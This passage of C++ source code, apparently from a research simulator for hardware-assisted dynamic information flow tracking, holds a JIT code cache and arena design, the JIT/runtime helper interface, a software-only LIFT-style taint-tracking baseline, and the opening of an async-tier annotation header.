                  offsetof(JitCtx, deopts) == 88 &&
                  offsetof(JitCtx, loadMask) == 96 &&
                  offsetof(JitCtx, stepsLeft) == 104 &&
                  offsetof(JitCtx, exitPc) == 112 &&
                  offsetof(JitCtx, exitInFast) == 120 &&
                  offsetof(JitCtx, tlb) == 128 &&
                  offsetof(JitCtx, sumWays) == 136 &&
                  offsetof(JitCtx, fpEnters) == 144 &&
                  offsetof(JitCtx, fpEntered) == 152 &&
                  offsetof(JitCtx, unat) == 160 &&
                  offsetof(JitCtx, tagTlb) == 168,
              "JitCtx layout is baked into emitted code");

/** Everything compile-time about the machine the code will run on. */
struct CompileEnv
{
    CycleModel cycleModel;
    bool natSetClear = false;
    bool natAwareCompare = false;
    bool fastEnabled = false;

    /**
     * Compile for the decoupled async taint tier (docs/ASYNC-TAINT.md):
     * the NaT bits are conservative maybe-taint summaries, not
     * architectural NaTs. Inline bodies cover exactly the cases the
     * tier's event filter provably drops (clean maybe bits, no
     * annotations); every op whose event filter could fire takes a
     * guarded bail to the interpreter — before the stall charge, so
     * the interpreter replays the op's whole front end — which then
     * emits the event stream exactly as an uncompiled run would.
     */
    bool async = false;

    bool operator==(const CompileEnv &) const = default;
};

/**
 * One function compiled whole: both streams in one RX buffer, with an
 * entry thunk at offset 0 and an inner entry point per block leader.
 */
struct CompiledFunction
{
    using Thunk = void (*)(JitCtx *, const void *);

    void *buf = nullptr; ///< RX code (null for the sentinel)
    size_t size = 0;
    /** False when `buf` lives in a CodeArena the cache owns. */
    bool ownsBuf = true;
    Thunk thunk = nullptr;
    /** Dense pc -> byte offset of the block's code; -1 for non-leaders. */
    std::vector<int32_t> slowEntry;
    std::vector<int32_t> fastEntry;
    uint32_t blocks = 0;

    ~CompiledFunction();
    CompiledFunction() = default;
    CompiledFunction(const CompiledFunction &) = delete;
    CompiledFunction &operator=(const CompiledFunction &) = delete;

    const void *entryFor(bool inFast, uint64_t pc) const
    {
        const std::vector<int32_t> &t = inFast ? fastEntry : slowEntry;
        if (pc >= t.size() || t[pc] < 0)
            return nullptr;
        return static_cast<const uint8_t *>(buf) + t[pc];
    }

    void invoke(JitCtx *ctx, const void *entry) const
    {
        thunk(ctx, entry);
    }
};

/**
 * Bump allocator for compiled code: dual-mapped memfd chunks, one RW
 * view the compiler writes through and one RX view execution uses.
 * Publishing a body then costs a memcpy instead of an mmap+mprotect
 * syscall pair (and a private page) per compile — the lazy tier
 * compiles hundreds of small blocks per session, and those syscalls
 * dominated its compile cost. W^X still holds: no page is ever
 * mapped writable and executable at once. Chunks live until the
 * arena dies, which matches the cache's own retention (published
 * bodies are kept for the cache's lifetime because in-flight
 * executors may still be inside evicted code).
 */
class CodeArena
{
  public:
    CodeArena() = default;
    ~CodeArena();
    CodeArena(const CodeArena &) = delete;
    CodeArena &operator=(const CodeArena &) = delete;

    /**
     * Copy `size` emitted bytes in and return the executable address,
     * or null when no dual mapping can be made (the caller then falls
     * back to a private W^X buffer). Thread-safe: the serving thread
     * and the background compile thread both seal through here.
     */
    const void *place(const void *bytes, size_t size);

  private:
    struct Chunk
    {
        uint8_t *rw = nullptr;
        const uint8_t *rx = nullptr;
        size_t cap = 0;
        size_t used = 0;
    };

    bool grow(size_t need);

    static constexpr size_t kChunkBytes = 256 * 1024;
    std::mutex mutex_;
    std::vector<Chunk> chunks_;
};

/**
 * Compile one function (both streams) against an immutable decode
 * result. Returns null when the backend is unavailable. The returned
 * object owns its executable buffer, unless `arena` is given and
 * placement succeeds — then the code lives in (and dies with) the
 * arena.
 */
std::unique_ptr<CompiledFunction>
compileFunction(const DecodedFunction &df, const CompileEnv &env,
                CodeArena *arena = nullptr);

/**
 * When compilation runs: Sync compiles on the executing thread at the
 * threshold crossing (the original behavior); Background hands the
 * request to the cache's compile thread and keeps interpreting until
 * the body installs, which takes compile cost (and its jitter) off
 * the serving path entirely.
 */
enum class CompileMode : uint8_t
{
    Sync,
    Background,
};

/**
 * Lazy per-block publication slots hold one of: null (cold), these
 * two small sentinels, or a real block-entry address. Emitted edge
 * stubs compare numerically — anything above kLazySlotQueued is code.
 */
constexpr uintptr_t kLazySlotDead = 1;   ///< block failed to compile
constexpr uintptr_t kLazySlotQueued = 2; ///< queued for the bg thread

/**
 * Leader marking shared by whole-function emission and the lazy
 * per-block tier: branch/check targets, terminator successors and
 * probe deopt pcs, for both streams. False = malformed control flow
 * (an out-of-range target); such a function is uncompilable.
 */
bool computeLeaders(const DecodedFunction &df, const CompileEnv &env,
                    std::vector<uint8_t> &slowLead,
                    std::vector<uint8_t> &fastLead);

/**
 * Compile ONE dual-version-superblock (the block led by `pc` in the
 * chosen stream) into its own buffer, entry at offset 0. Out-edges
 * probe the function's publication slots inline (their addresses are
 * baked — the slot arrays must never move) and fall back to the
 * blockLink helper, so blocks stitch to each other as they appear
 * without a whole-function compile ever happening.
 */
std::unique_ptr<CompiledFunction>
compileBlock(const DecodedFunction &df, const CompileEnv &env,
             int funcIndex, bool inFast, size_t pc,
             const std::atomic<const void *> *slowSlots,
             const std::atomic<const void *> *fastSlots,
             const std::vector<uint8_t> &slowLead,
             const std::vector<uint8_t> &fastLead,
             CodeArena *arena = nullptr);

/**
 * The shared interpreter->compiled entry thunk for the lazy tier:
 * whole-function bodies carry their own thunk at offset 0, but lazy
 * block buffers start at the block head, so the cache compiles this
 * register-plan prologue once and pairs it with every block entry.
 */
std::unique_ptr<CompiledFunction> compileEntryThunk();

/**
 * The executable code cache: per-function hotness counters, compiled
 * bodies and the promotion policy. One cache is shared read-only by
 * every clone of a SessionTemplate (it travels in MachineSnapshot);
 * lookups are lock-free, compilation is serialized on a mutex and
 * published with release stores, so concurrent fleet workers race
 * safely (at worst one redundant threshold crossing waits briefly).
 *
 * The cache is bound to one DecodedProgram instance: baked
 * DecodedInstr addresses alias its streams. Machine::run() checks the
 * binding and ignores a stale cache (e.g. after the trace-hook
 * re-decode), which is the invalidation story for template rebuilds —
 * a rebuild makes a new program, hence a new cache.
 */
class CodeCache
{
  public:
    static constexpr uint32_t kDefaultThreshold = 32;

    /**
     * Code-byte budget: when publishing a new body would push the
     * cache's live bytes past this, every published body is evicted
     * first (flush-when-full) and hotness restarts, so a phase change
     * recompiles only what is still hot. Evicted buffers stay owned —
     * fleet clones may be mid-execution in them — and are reclaimed
     * when the cache itself dies, so the bound governs live
     * (reachable) code, not retired buffers.
     */
    static constexpr size_t kDefaultMaxBytes = size_t(64) << 20;

    CodeCache(std::shared_ptr<const DecodedProgram> program,
              CompileEnv env, uint32_t threshold = 0,
              size_t maxBytes = 0,
              CompileMode mode = CompileMode::Sync,
              bool lazyBlocks = false);
    ~CodeCache();

    const DecodedProgram *program() const { return program_.get(); }
    const CompileEnv &env() const { return env_; }
    uint32_t threshold() const { return threshold_; }
    size_t maxBytes() const { return maxBytes_; }
    CompileMode mode() const { return mode_; }
    bool lazyBlocks() const { return lazy_; }

    /**
     * A resolved execution entry: `code` is the landing address inside
     * a compiled body and `thunk` establishes the register plan around
     * it (the body's own thunk for whole-function units, the cache's
     * shared entry thunk for lazy blocks). Null code = keep
     * interpreting.
     */
    struct Entry
    {
        CompiledFunction::Thunk thunk = nullptr;
        const void *code = nullptr;
        explicit operator bool() const { return code != nullptr; }
    };

    /**
     * Per-call promotion credit: what this hot() call itself caused.
     * The caller folds the deltas into its own jit.* counters, so a
     * fleet-wide sum counts each compilation (and eviction) exactly
     * once no matter which clone triggered it.
     */
    struct Credit
    {
        uint64_t blocks = 0;    ///< superblocks newly compiled
        uint64_t codeBytes = 0; ///< executable bytes newly published
        uint64_t evictions = 0; ///< flush-when-full events taken
        /**
         * Host nanoseconds THIS call spent compiling+sealing
         * synchronously on the caller's thread (0 for background
         * installs — the worker accounts its own time, drained as
         * prof.aux.compile). The profiler carves this span out of
         * the interpreter tier.
         */
        uint64_t compileNanos = 0;
    };

    /**
     * Hot-path lookup: count one block-entry event against `func` and
     * return its compiled body, compiling it first when the counter
     * crosses the threshold. Returns null while cold (or when the
     * function failed to compile). When this call performed the
     * compilation, the credit records it for the caller's counters.
     * In Background mode the crossing enqueues the compile and keeps
     * returning null until the worker installs the body.
     */
    const CompiledFunction *hot(int func, Credit *credit);

    /**
     * The unified lookup the interpreter hook and the transfer/link
     * helpers use: count one entry event and resolve (func, stream,
     * pc) to an executable entry under whichever promotion policy the
     * cache runs — whole-function or lazy per-block, sync or
     * background. Also drains compile credit accumulated by the
     * background thread into `credit`, so fleet-wide jit.* sums stay
     * exactly-once no matter which thread compiled.
     */
    Entry entryAt(int func, bool inFast, uint64_t pc, Credit *credit);

    /**
     * entryAt without counting or compiling: the already-compiled
     * fast path for cross-function and block-to-block linking. Null
     * sends the caller to entryAt, so cold targets still gain heat.
     */
    Entry peekAt(int func, bool inFast, uint64_t pc) const;

    /**
     * High-water mark of the background compile queue's depth (0 in
     * sync mode): exported as the jit.compileQueueDepth gauge.
     */
    uint64_t queueHighWater() const
    {
        return queueHighWater_.load(std::memory_order_relaxed);
    }

    /**
     * Compile-pipeline internals, drained exactly once: queue-wait /
     * compile / seal latency histograms (jit.queueWait.nanos,
     * jit.compile.nanos, jit.seal.nanos) and the background worker's
     * accumulated compile time (prof.aux.compile.nanos). Draining
     * moves the samples out, so a fleet of clones sharing this cache
     * reports each sample exactly once no matter which clone's run()
     * folds them — the same exactly-once discipline as Credit.
     */
    void drainStatsInto(StatSet &stats);

    /**
     * Lookup without counting: returns the compiled body when one is
     * published, null otherwise (cold or uncompilable — peek does not
     * distinguish). The cross-function transfer helper asks this
     * first: once the target is compiled its hotness is moot, and
     * skipping hot()'s atomic increment keeps the call/return linking
     * path free of contended read-modify-writes. A null sends the
     * caller to hot(), so cold targets still accumulate heat.
     */
    const CompiledFunction *
    peek(int func) const
    {
        const CompiledFunction *jf =
            fns_[size_t(func)].load(std::memory_order_acquire);
        return jf == &kUncompilable ? nullptr : jf;
    }

    uint64_t compiledFunctions() const
    {
        return compiledFunctions_.load(std::memory_order_relaxed);
    }
    uint64_t compiledBlocks() const
    {
        return compiledBlocks_.load(std::memory_order_relaxed);
    }
    /** Bytes of currently-published (non-evicted) code. */
    size_t liveBytes() const
    {
        return liveBytes_.load(std::memory_order_relaxed);
    }
    uint64_t evictions() const
    {
        return evictions_.load(std::memory_order_relaxed);
    }

  private:
    /**
     * Lazy-tier per-function state: one publication slot per dense pc
     * of each stream (leaders only ever publish; the rest stay null
     * forever) plus the leader maps the block-range scan needs. Slot
     * array addresses are baked into emitted edge stubs, so the
     * vectors are sized once at creation and never resized.
     */
    struct LazyFunction
    {
        std::vector<std::atomic<const void *>> slow;
        std::vector<std::atomic<const void *>> fast;
        std::vector<uint8_t> slowLead;
        std::vector<uint8_t> fastLead;
        /**
         * Per-block entry heat, background mode only: a block is
         * claimed for the worker only after kLazyBlockHeat misses, so
         * blocks entered once or twice never consume compile time.
         * Relaxed counters — heat is a hint; when and whether a block
         * compiles never affects simulated results.
         */
        std::vector<std::atomic<uint8_t>> slowHeat;
        std::vector<std::atomic<uint8_t>> fastHeat;
    };

    struct CompileReq
    {
        int func;
        int32_t pc;
        uint8_t inFast;
        uint8_t whole;
        uint64_t enqueueNs = 0; ///< for the queue-wait histogram
    };

    static constexpr size_t kMaxQueue = 1024;
    /** Background-mode lazy claims wait for this many block entries. */
    static constexpr uint8_t kLazyBlockHeat = 4;

    const CompiledFunction *publishFunctionLocked(
        int func, std::unique_ptr<CompiledFunction> compiled,
        Credit *credit);
    const void *publishBlockLocked(
        std::vector<std::atomic<const void *>> &slots, size_t pc,
        std::unique_ptr<CompiledFunction> compiled, Credit *credit);
    /**
     * Seal-side observability (called under compileMutex_ after a
     * successful publish): JitCompile flight-recorder event,
     * compile/seal latency samples, and perf-map/jitdump symbols for
     * the unit's blocks. `pc` < 0 = whole-function unit.
     */
    void noteSealedLocked(int func, bool inFast, int64_t pc,
                          const CompiledFunction *f, size_t codeBytes,
                          const void *codeAddr, uint64_t compileNs,
                          uint64_t sealNs);
    LazyFunction *lazyFunctionFor(int func, Credit *credit);
    void flushIfNeededLocked(size_t incoming, Credit *credit);
    bool enqueue(const CompileReq &req);
    void drainPending(Credit *credit);
    void workerLoop();

    std::shared_ptr<const DecodedProgram> program_;
    CompileEnv env_;
    uint32_t threshold_;
    size_t maxBytes_;
    CompileMode mode_;
    bool lazy_;

    std::vector<std::atomic<uint32_t>> hot_;
    std::vector<std::atomic<const CompiledFunction *>> fns_;
    std::vector<std::atomic<LazyFunction *>> lazyFns_;
    std::mutex compileMutex_;
    std::vector<std::unique_ptr<CompiledFunction>> owned_;
    std::vector<std::unique_ptr<LazyFunction>> lazyOwned_;
    std::unique_ptr<CompiledFunction> entryThunk_;
    /** Shared code storage for every compile this cache performs. */
    CodeArena arena_;
    std::atomic<uint64_t> compiledFunctions_{0};
    std::atomic<uint64_t> compiledBlocks_{0};
    std::atomic<size_t> liveBytes_{0};
    std::atomic<uint64_t> evictions_{0};

    // Background pipeline: a bounded request queue drained by one
    // compile thread; credit for its installs parks in the pending
    // accumulators until the next counting lookup claims it.
    std::thread worker_;
    std::mutex queueMutex_;
    std::condition_variable queueCv_;
    std::deque<CompileReq> queue_;
    bool stop_ = false;
    std::atomic<uint64_t> queueHighWater_{0};
    std::atomic<uint64_t> pendingBlocks_{0};
    std::atomic<uint64_t> pendingBytes_{0};
    std::atomic<uint64_t> pendingEvictions_{0};

    // Compile-pipeline latency samples, guarded by compileMutex_ and
    // moved out by drainStatsInto (exactly-once across clones).
    Histogram queueWaitNanos_;
    Histogram compileNanos_;
    Histogram sealNanos_;
    /** Background worker's total compile+seal time (prof.aux). */
    std::atomic<uint64_t> bgCompileNanos_{0};

    /** Published for functions the backend rejected: never retried. */
    static const CompiledFunction kUncompilable;
    /** Lazy analog: leader analysis failed, no block will compile. */
    static LazyFunction kLazyDead;
};

} // namespace jit
} // namespace shift

#endif // SHIFT_JIT_JIT_HH
