/**
 * @file
 * The JIT/runtime boundary: the helper entry points compiled code
 * calls for micro-ops that are not worth (or not safe) inlining.
 *
 * Every helper shares one signature so the compiler emits a single
 * call shape:
 *
 *     uint64_t helper(JitCtx *ctx, const DecodedInstr *dp, uint64_t pcw)
 *
 * `pcw` packs the op's dense pc (low 32 bits) with the stream bit
 * (bit 32: fast stream) so a faulting helper can materialize the
 * interpreter-visible pc/inFast exactly where the interpreter's own
 * sync() would. The return value steers the emitted call site:
 *
 *     0  continue — fall through to the next op's code
 *     1  exit — the machine stopped (fault/alert) or the helper
 *        spilled a bail point; ctx->exitPc is set
 *     2  alt — take the op's alternate edge (a probe's deopt target,
 *        compiled as a static jump to the slow-stream block)
 *
 * The control-transfer helpers (call/calli/ret) extend this: any
 * return value above 2 is a host-code address the call site jumps to
 * (a block entry in the callee's or caller's compiled body), which is
 * how compiled code crosses function boundaries without bailing to
 * the interpreter.
 *
 * JitOps is a friend of Machine: the helpers transliterate the
 * interpreter handlers in machine.cc line for line (same register
 * writes, charges, stalls, cache accesses and fault points), which is
 * what the differential bit-identity suite in tests/test_jit.cc pins.
 */

#ifndef SHIFT_JIT_JIT_INTERNAL_HH
#define SHIFT_JIT_JIT_INTERNAL_HH

#include "jit/jit.hh"
#include "obs/trace.hh"

namespace shift::jit
{

/** Helper calling convention (SysV: rdi=ctx, rsi=dp, rdx=pcw). */
using HelperFn = uint64_t (*)(JitCtx *, const DecodedInstr *, uint64_t);

struct JitOps
{
    // Memory ops (the general paths; the compiler inlines a
    // translation-cache-hit fast path and calls these on any miss,
    // NaT operand, tag-region address, spec/fill/spill form or
    // page-crossing access).
    static uint64_t ld(JitCtx *c, const DecodedInstr *dp, uint64_t pcw);
    static uint64_t st(JitCtx *c, const DecodedInstr *dp, uint64_t pcw);
    // Retire leaves for the inline fast paths: load/store counters,
    // the data-cache model and the op's charges (nothing that can
    // fault). SysV: rdi=ctx, rsi=addr, rdx=statIdx.
    static void ldRetire(JitCtx *c, uint64_t addr, uint64_t statIdx);
    static void stRetire(JitCtx *c, uint64_t addr, uint64_t statIdx);
    /** FusedClearNat's retire: its spill-store + reload charges. */
    static void clearNatRetire(JitCtx *c, uint64_t addr,
                               uint64_t statIdx);
    /** FusedChkByte's retire: its two tag-byte load charges. */
    static void chkByteRetire(JitCtx *c, uint64_t addr,
                              uint64_t statIdx);
    // Div/Mod/DivU/ModU (op switch on dp->op).
    static uint64_t divmod(JitCtx *c, const DecodedInstr *dp,
                           uint64_t pcw);
    // Fused taint macro-ops.
    static uint64_t chkByte(JitCtx *c, const DecodedInstr *dp,
                            uint64_t pcw);
    static uint64_t chkWord(JitCtx *c, const DecodedInstr *dp,
                            uint64_t pcw);
    static uint64_t clearNat(JitCtx *c, const DecodedInstr *dp,
                             uint64_t pcw);
    // FusedStUpdByte and FusedStUpdWord (granularity from dp->op).
    static uint64_t stUpd(JitCtx *c, const DecodedInstr *dp,
                          uint64_t pcw);
    // Fast-tier probes (return 2 on deopt/cold-bail).
    static uint64_t fpEnter(JitCtx *c, const DecodedInstr *dp,
                            uint64_t pcw);
    static uint64_t fpChk(JitCtx *c, const DecodedInstr *dp,
                          uint64_t pcw);
    static uint64_t fpSt(JitCtx *c, const DecodedInstr *dp,
                         uint64_t pcw);
    static uint64_t fpClr(JitCtx *c, const DecodedInstr *dp,
                          uint64_t pcw);
    // MovToBr / MovToUnat / MovFromUnat (op switch; rare ops).
    static uint64_t aux(JitCtx *c, const DecodedInstr *dp, uint64_t pcw);
    // Control transfers (return a code address to jump to, or 1).
    static uint64_t call(JitCtx *c, const DecodedInstr *dp,
                         uint64_t pcw);
    static uint64_t calli(JitCtx *c, const DecodedInstr *dp,
                          uint64_t pcw);
    static uint64_t ret(JitCtx *c, const DecodedInstr *dp, uint64_t pcw);
    // Linked policy-boundary exits: run the built-in / system-call
    // handler against a fully spilled machine (exactly the
    // interpreter's sequence, async fence included), then return 0 to
    // continue natively at the post-call pc, 1 on fault/stop, or a
    // host address when the handler moved control somewhere compiled.
    static uint64_t builtin(JitCtx *c, const DecodedInstr *dp,
                            uint64_t pcw);
    static uint64_t syscall(JitCtx *c, const DecodedInstr *dp,
                            uint64_t pcw);
    /**
     * Lazy-tier block stitching (SysV: rdi=ctx, rsi=func, rdx=pcw):
     * resolve the target block, compiling or enqueueing it under the
     * cache's policy; a miss spills a clean bail at the target pc.
     */
    static uint64_t blockLink(JitCtx *c, uint64_t func, uint64_t pcw);

    // Shared pieces (members so they see Machine's privates).
    /** The JIT's sync(): fold ctx deltas into the Machine pre-fault. */
    static void spill(JitCtx *c, uint64_t pcw);
    /** Merged-entry bookkeeping; true = superblock is cold, bail. */
    static bool coldBail(JitCtx *c, const DecodedInstr *dp);
    /** Transliterated probeDeopt: count, maybe demote, count ours. */
    static void deopt(JitCtx *c, const DecodedInstr *dp,
                      obs::DeoptCause cause);
    /** Land at (func, pc, fast): compiled entry address, or spill+1. */
    static uint64_t transfer(JitCtx *c, int func, uint64_t pc,
                             bool fast);
    /** enterFunction transliterated: push a frame, enter `callee`. */
    static uint64_t enter(JitCtx *c, const DecodedInstr *dp,
                          uint64_t pcw, int callee);
};

} // namespace shift::jit

#endif // SHIFT_JIT_JIT_INTERNAL_HH
