/**
 * @file
 * Software-only DIFT baseline (LIFT-style).
 *
 * The paper compares SHIFT against LIFT [22], a dynamic-binary-
 * translation DIFT whose 4.6X slowdown comes from doing in software
 * what SHIFT gets from the deferred-exception hardware: propagating a
 * taint bit per register through EVERY data-flow instruction.
 *
 * This pass reproduces that cost model on our IR so both systems run
 * the same workloads on the same substrate:
 *
 *  - Register taint lives in a reserved register (r31) as a 64-bit
 *    bitmap, bit i = taint of r(i) — the analogue of LIFT keeping tags
 *    in spare x86-64 registers.
 *  - Every ALU instruction gains explicit propagation code
 *    (tag[dst] = tag[src1] | tag[src2]).
 *  - Loads/stores exchange tags with the same in-memory bitmap layout
 *    SHIFT uses, plus explicit pre-access checks (the L1/L2 policies
 *    must be tested in software; hardware faults do nothing here).
 *  - Compares need NO relaxation — there is no NaT to trip over —
 *    which is the one place software DIFT is cheaper.
 *
 * Alert delivery uses a reserved "syscall 99" trap; the runtime maps
 * it onto the policy engine.
 */

#ifndef SHIFT_BASELINE_SOFTWARE_DIFT_HH
#define SHIFT_BASELINE_SOFTWARE_DIFT_HH

#include "core/instrument.hh"
#include "isa/program.hh"
#include "mem/address_space.hh"

namespace shift
{

/** Syscall number the baseline uses to raise a security alert. */
constexpr int64_t kDiftAlertSyscall = 99;

/** Alert reasons, passed in the kDiftAlertReasonReg scratch register. */
constexpr int64_t kDiftAlertLoad = 1;
constexpr int64_t kDiftAlertStore = 2;
constexpr int kDiftAlertReasonReg = reg::shiftTmp3;

/**
 * Options for the software baseline. Per-access address checks are
 * off by default: LIFT enforces policy at control transfers and API
 * boundaries rather than on every load/store (enabling them here is
 * the software analogue of SHIFT with no relax rules).
 */
struct BaselineOptions
{
    Granularity granularity = Granularity::Byte;
    bool checkLoads = false;  ///< software L1 checks
    bool checkStores = false; ///< software L2 checks
};

/**
 * Instrument a program with software-only DIFT, in place. Reuses
 * InstrumentStats for size accounting.
 */
InstrumentStats instrumentSoftwareDift(Program &program,
                                       const BaselineOptions &options);

} // namespace shift

#endif // SHIFT_BASELINE_SOFTWARE_DIFT_HH
