#include "software_dift.hh"

#include <vector>

#include "support/logging.hh"

namespace shift
{

namespace
{

constexpr int kT0 = reg::shiftTmp0;
constexpr int kT1 = reg::shiftTmp1;
constexpr int kT2 = reg::shiftTmp2;
constexpr int kT3 = reg::shiftTmp3;
constexpr int kTagBitmap = reg::natSrc; ///< r31: register-tag bitmap

constexpr int kPCheck = 12;
constexpr int kPClean = 13;

class BaselineInstrumenter
{
  public:
    BaselineInstrumenter(Function &fn, const BaselineOptions &options,
                         InstrumentStats &stats, bool isEntry)
        : fn_(fn), opt_(options), stats_(stats), isEntry_(isEntry)
    {}

    void
    run()
    {
        out_.reserve(fn_.code.size() * 4);
        if (isEntry_) {
            // Clear the register-tag bitmap at program start.
            emit(makeMovi(kTagBitmap, 0));
        }
        for (const Instr &instr : fn_.code)
            rewrite(instr);
        fn_.code = std::move(out_);
    }

  private:
    Function &fn_;
    const BaselineOptions &opt_;
    InstrumentStats &stats_;
    bool isEntry_;
    std::vector<Instr> out_;

    void
    emit(Instr instr)
    {
        instr.prov = Provenance::Baseline;
        out_.push_back(std::move(instr));
        ++stats_.added;
    }

    /** kT0 = taint bit of register r (0 or 1). */
    void
    emitGetTag(int dst, int r)
    {
        emit(makeExtr(dst, kTagBitmap, r, 1));
    }

    /** tag[r] = value currently in `src` (bit 0). */
    void
    emitSetTagFromReg(int r, int src)
    {
        emit(makeAluImm(Opcode::Andcm, kTagBitmap, kTagBitmap,
                        static_cast<int64_t>(1ULL << r)));
        emit(makeAluImm(Opcode::Shl, kT3, src, r));
        emit(makeAlu(Opcode::Or, kTagBitmap, kTagBitmap, kT3));
    }

    /** tag[r] = 0. */
    void
    emitClearTag(int r)
    {
        emit(makeAluImm(Opcode::Andcm, kTagBitmap, kTagBitmap,
                        static_cast<int64_t>(1ULL << r)));
    }

    /** Tag-byte address of the address in addrReg -> kT0. */
    void
    emitTagAddr(int addrReg)
    {
        bool byteGran = opt_.granularity == Granularity::Byte;
        int dataShift = byteGran ? 3 : 6;
        int regionShift = static_cast<int>(kImplementedBits) - dataShift;
        emit(makeExtr(kT0, addrReg, static_cast<int>(kRegionShift), 3));
        emit(makeAluImm(Opcode::Shl, kT0, kT0, regionShift));
        emit(makeExtr(kT1, addrReg, dataShift,
                      static_cast<int>(kImplementedBits) - dataShift));
        emit(makeAlu(Opcode::Or, kT0, kT0, kT1));
    }

    /**
     * Software policy check: trap when tag[addrReg] is set. The alert
     * reason travels in the kT3 scratch register (not r16: an argument
     * register may be live here).
     */
    void
    emitAddrCheck(int addrReg, int64_t reason)
    {
        emitGetTag(kT2, addrReg);
        Instr cmp = makeCmpImm(CmpRel::Ne, kPCheck, 0, kT2, 0);
        emit(cmp);
        Instr setReason = makeMovi(kT3, reason);
        setReason.qp = kPCheck;
        emit(setReason);
        Instr trap;
        trap.op = Opcode::Syscall;
        trap.imm = kDiftAlertSyscall;
        trap.qp = kPCheck;
        emit(trap);
    }

    void
    instrumentAlu(const Instr &instr)
    {
        // tag[dst] = tag[src1] | tag[src2].
        int d = instr.r1;
        if (instr.op == Opcode::Movi) {
            out_.push_back(instr);
            emitClearTag(d);
            return;
        }
        emitGetTag(kT2, instr.r2);
        bool hasSecondSrc = !instr.useImm &&
            (instr.op == Opcode::Add || instr.op == Opcode::Sub ||
             instr.op == Opcode::Mul || instr.op == Opcode::Div ||
             instr.op == Opcode::Mod || instr.op == Opcode::DivU ||
             instr.op == Opcode::ModU || instr.op == Opcode::And ||
             instr.op == Opcode::Andcm || instr.op == Opcode::Or ||
             instr.op == Opcode::Xor || instr.op == Opcode::Shl ||
             instr.op == Opcode::Shr || instr.op == Opcode::Sar ||
             instr.op == Opcode::Shladd);
        if (hasSecondSrc) {
            emitGetTag(kT3, instr.r3);
            emit(makeAlu(Opcode::Or, kT2, kT2, kT3));
        }
        out_.push_back(instr);
        emitSetTagFromReg(d, kT2);
        ++stats_.purifies; // reuse: counts propagated ALU ops
    }

    void
    instrumentLoad(const Instr &ld)
    {
        ++stats_.loads;
        if (opt_.checkLoads)
            emitAddrCheck(ld.r2, kDiftAlertLoad);
        emitTagAddr(ld.r2);
        bool byteGran = opt_.granularity == Granularity::Byte;
        emit(makeLd(kT1, kT0, byteGran ? 2 : 1));
        if (byteGran) {
            emit(makeAluImm(Opcode::And, kT2, ld.r2, 7));
            emit(makeAlu(Opcode::Shr, kT1, kT1, kT2));
            emit(makeAluImm(Opcode::And, kT1, kT1, (1 << ld.size) - 1));
        } else {
            emit(makeExtr(kT2, ld.r2, 3, 3));
            emit(makeAlu(Opcode::Shr, kT1, kT1, kT2));
            emit(makeAluImm(Opcode::And, kT1, kT1, 1));
        }
        // Normalize to 0/1.
        emit(makeCmpImm(CmpRel::Ne, kPCheck, kPClean, kT1, 0));
        out_.push_back(ld);
        Instr one = makeMovi(kT1, 1);
        one.qp = kPCheck;
        emit(one);
        Instr zero = makeMovi(kT1, 0);
        zero.qp = kPClean;
        emit(zero);
        emitSetTagFromReg(ld.r1, kT1);
    }

    void
    instrumentStore(const Instr &st)
    {
        ++stats_.stores;
        if (opt_.checkStores)
            emitAddrCheck(st.r1, kDiftAlertStore);
        emitGetTag(kT2, st.r2); // source tag, 0/1
        emitTagAddr(st.r1);
        bool byteGran = opt_.granularity == Granularity::Byte;
        // Mask of covered tag bits -> kT3.
        if (byteGran) {
            emit(makeAluImm(Opcode::And, kT1, st.r1, 7));
            emit(makeMovi(kT3, (1 << st.size) - 1));
            emit(makeAlu(Opcode::Shl, kT3, kT3, kT1));
        } else {
            emit(makeExtr(kT1, st.r1, 3, 3));
            emit(makeMovi(kT3, 1));
            emit(makeAlu(Opcode::Shl, kT3, kT3, kT1));
        }
        int width = byteGran ? 2 : 1;
        emit(makeLd(kT1, kT0, width));
        emit(makeCmpImm(CmpRel::Ne, kPCheck, kPClean, kT2, 0));
        Instr setBits = makeAlu(Opcode::Or, kT1, kT1, kT3);
        setBits.qp = kPCheck;
        emit(setBits);
        Instr clrBits = makeAlu(Opcode::Andcm, kT1, kT1, kT3);
        clrBits.qp = kPClean;
        emit(clrBits);
        emit(makeSt(kT0, kT1, width));
        out_.push_back(st);
    }

    void
    rewrite(const Instr &instr)
    {
        if (instr.prov != Provenance::Original) {
            out_.push_back(instr);
            return;
        }
        switch (instr.op) {
          case Opcode::Ld:
            if (instr.spec) {
                out_.push_back(instr);
                return;
            }
            // Fills are ordinary loads to software DIFT: LIFT
            // instruments spill traffic like any other access.
            instrumentLoad(instr);
            return;
          case Opcode::St:
            instrumentStore(instr);
            return;
          case Opcode::Mov:
          case Opcode::Sxt:
          case Opcode::Zxt:
          case Opcode::Extr: {
            // Unary data movement: copy the source tag.
            emitGetTag(kT2, instr.r2);
            out_.push_back(instr);
            emitSetTagFromReg(instr.r1, kT2);
            return;
          }
          case Opcode::MovFromBr:
          case Opcode::MovFromUnat:
            out_.push_back(instr);
            emitClearTag(instr.r1);
            return;
          default:
            if (isAlu(instr) && instr.op != Opcode::Mov) {
                instrumentAlu(instr);
                return;
            }
            out_.push_back(instr);
            return;
        }
    }
};

} // namespace

InstrumentStats
instrumentSoftwareDift(Program &program, const BaselineOptions &options)
{
    InstrumentStats stats;
    stats.originalSize = program.staticInstrCount();

    auto entry = program.findFunction(program.entry);
    for (size_t i = 0; i < program.functions.size(); ++i) {
        bool isEntry = entry && static_cast<size_t>(*entry) == i;
        BaselineInstrumenter bi(program.functions[i], options, stats,
                                isEntry);
        bi.run();
    }

    stats.newSize = program.staticInstrCount();
    stats.added = stats.newSize - stats.originalSize;
    return stats;
}

} // namespace shift
