/**
 * @file
 * Async-tier program annotation.
 *
 * Under the decoupled taint tier the engine runs the *original*
 * program — no inline instrumentation at all — and the consumer
 * thread replays propagation from the event stream. The consumer must
 * still apply exactly the instrumenter's semantics (which accesses
 * are bitmap-checked, which are relaxed, which compares carry the
 * taint-alert policy, which ALU results are purified), so this pass
 * precomputes those static decisions and stashes them in the unused
 * `p1` field of each load/store/ALU instruction — the predecoder
 * copies `p1` verbatim into the micro-op, where the async engine
 * forwards it as event flags for free.
 *
 * The only instructions it *inserts* are the compare-taint-alert
 * markers: an unpredicated `mov br7 = r` before each scoped compare
 * operand, mirroring the instrumenter's predicated trap (the engine
 * emits a BranchCheck event; the consumer raises the same L3 verdict
 * the synchronous trap would). br7 is otherwise unused by codegen
 * (indirect calls go through br6).
 */

#ifndef SHIFT_DIFT_ANNOTATE_HH
#define SHIFT_DIFT_ANNOTATE_HH

#include <cstdint>
#include <set>
#include <string>

